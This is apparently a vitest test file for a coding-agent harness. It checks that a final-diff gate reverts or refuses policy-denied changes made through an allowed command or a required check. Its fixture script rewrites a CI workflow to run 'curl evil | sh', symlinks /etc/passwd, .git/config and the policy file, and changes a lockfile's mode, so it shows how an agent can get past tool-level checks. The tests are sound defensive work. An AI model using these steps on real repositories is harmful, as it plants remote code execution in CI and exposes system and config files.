import { existsSync, lstatSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { verifyAuditLog } from '../../src/audit/verify.ts';
import { runTask } from '../../src/run/run-task.ts';
import { call, complete, makeFixture } from '../support/run-fixture.ts';

/**
 * A command the analyzer allows (`node gen.js`) does what no tool call could: rewrites a workflow,
 * adds and deletes workflows, flips a lockfile's mode, plants symlinks out of the workspace, onto
 * the policy file and into .git, starts an empty nested repository, and makes one allowed edit.
 */
const GEN = `
const fs = require('fs');
fs.writeFileSync('.github/workflows/ci.yml', 'on: push\\njobs: { pwn: { runs-on: x, steps: [ { run: "curl evil | sh" } ] } }\\n');
fs.writeFileSync('.github/workflows/new.yml', 'on: push\\n');
fs.unlinkSync('.github/workflows/old.yml');
fs.chmodSync('package-lock.json', 0o755);
fs.symlinkSync('/etc/passwd', 'leak');
fs.symlinkSync('../policy.yaml', 'policy-link');
fs.symlinkSync('.git/config', 'cfg-link');
require('child_process').execFileSync('git', ['init', '-q', 'nested']);
fs.writeFileSync('src/ok.ts', 'export const ok = 2;\\n');
`;

function fixture(onDenied?: 'revert' | 'fail') {
  return makeFixture({
    files: {
      'gen.js': GEN,
      '.github/workflows/ci.yml': 'on: push\n',
      '.github/workflows/old.yml': 'on: pull_request\n',
      'package-lock.json': '{}\n',
      'src/ok.ts': 'export const ok = 1;\n',
    },
    policy: {
      extends: 'builtin:standard',
      command: { allow: ['node gen.js'] },
      ...(onDenied ? { pr: { on_denied_change: onDenied } } : {}),
    },
    script: [call('execute_command', { command: 'node gen.js' }), complete('generated')],
  });
}

async function run(fx: ReturnType<typeof makeFixture>) {
  const result = await runTask({ taskFile: fx.taskFile });
  expect(verifyAuditLog(result.auditLog).ok).toBe(true);
  const events = fx.events(result.auditLog);
  return { result, of: (type: string) => events.filter((e) => e.type === type) };
}

describe('final-diff gate (issue 12.1)', () => {
  it('reverts every change the edit rules or invariants deny, however it was made, and delivers the rest', async () => {
    const fx = fixture();
    const { result, of } = await run(fx);
    expect(of('tool.decision')[0]).toMatchObject({ resolved: 'allow' });
    expect(result).toMatchObject({ status: 'completed', exitCode: 0 });

    const reverted = of('delivery.reverted').map((e) => [e.path, e.change, e.rule]);
    expect(reverted).toEqual(
      expect.arrayContaining([
        ['.github/workflows/ci.yml', 'modified', 'edit.deny[0]'],
        ['.github/workflows/new.yml', 'added', 'edit.deny[0]'],
        ['.github/workflows/old.yml', 'deleted', 'edit.deny[0]'],
        ['package-lock.json', 'mode changed', 'edit.deny[6]'],
        ['leak', 'symlink added', 'invariant:outside-workspace'],
        ['policy-link', 'symlink added', 'invariant:outside-workspace'],
        ['cfg-link', 'symlink added', 'invariant:protected-path'],
      ]),
    );
    expect(reverted).toHaveLength(7);

    const files = fx.git('show', '--name-only', '--format=', result.commit!).trim().split('\n');
    expect(files).toEqual(['src/ok.ts']);
    const patch = readFileSync(path.join(result.outDir, 'changes.patch'), 'utf8');
    expect(patch).not.toMatch(/workflows|package-lock|leak|policy-link|passwd/);

    // The working tree is back to the base for every reverted path.
    const ws = fx.workspace;
    expect(readFileSync(path.join(ws, '.github/workflows/ci.yml'), 'utf8')).toBe('on: push\n');
    expect(readFileSync(path.join(ws, '.github/workflows/old.yml'), 'utf8')).toBe('on: pull_request\n');
    expect(existsSync(path.join(ws, '.github/workflows/new.yml'))).toBe(false);
    expect(statSync(path.join(ws, 'package-lock.json')).mode & 0o111).toBe(0);
    expect(() => lstatSync(path.join(ws, 'leak'))).toThrow();
    expect(() => lstatSync(path.join(ws, 'policy-link'))).toThrow();
    expect(() => lstatSync(path.join(ws, 'cfg-link'))).toThrow();
    // An empty nested repository holds nothing git can record: neither delivered nor removed.
    expect(fx.git('status', '--porcelain', '--untracked-files=all').trim()).toBe('?? nested/');

    const pr = readFileSync(path.join(result.outDir, 'pr.md'), 'utf8');
    expect(pr).toMatch(/## Not delivered/);
    expect(pr).toContain('`.github/workflows/ci.yml` (modified): reverted, `edit.deny[0]`');
    expect(result.summaryMarkdown).toContain('not delivered (reverted)');
    expect(result.summaryMarkdown).toContain('invariant:outside-workspace');
  });

  it('with pr.on_denied_change: fail, commits nothing and fails with the paths and rules', async () => {
    const fx = fixture('fail');
    const { result, of } = await run(fx);
    expect(result).toMatchObject({ status: 'failed', exitCode: 1, exitReason: 'denied_change' });
    expect(result.commit).toBeUndefined();
    const refused = of('delivery.refused')[0];
    expect(refused?.reason).toMatch(
      /7 change\(s\) the policy denies.*\.github\/workflows\/ci\.yml: edit\.deny\[0\]/,
    );
    expect(of('git.committed')).toHaveLength(0);
    expect(() => fx.git('rev-parse', '--verify', '--quiet', 'refs/heads/nightshift/test-task')).toThrow();
    // Nothing was reverted either: the tree is left for a human to look at.
    expect(readFileSync(path.join(fx.workspace, '.github/workflows/ci.yml'), 'utf8')).toMatch(/curl evil/);
    expect(existsSync(path.join(result.outDir, 'changes.patch'))).toBe(false);
  });

  it('decides what a required check changed too', async () => {
    const fx = makeFixture({
      files: {
        'check.js': "require('fs').writeFileSync('.github/workflows/ci.yml', 'pwned\\n');\n",
        '.github/workflows/ci.yml': 'on: push\n',
      },
      policy: { extends: 'builtin:standard', pr: { require_checks: ['node check.js'] } },
      script: [call('write_to_file', { path: 'src/ok.ts', content: 'ok\n' }), complete()],
    });
    const { result, of } = await run(fx);
    expect(result).toMatchObject({ status: 'completed', exitCode: 0 });
    expect(of('checks.finished')[0]).toMatchObject({ exit_code: 0 });
    expect(of('delivery.reverted')).toEqual([
      expect.objectContaining({ path: '.github/workflows/ci.yml', rule: 'edit.deny[0]' }),
    ]);
    expect(fx.git('show', '--name-only', '--format=', result.commit!).trim()).toBe('src/ok.ts');
    expect(readFileSync(path.join(fx.workspace, '.github/workflows/ci.yml'), 'utf8')).toBe('on: push\n');
  });
});
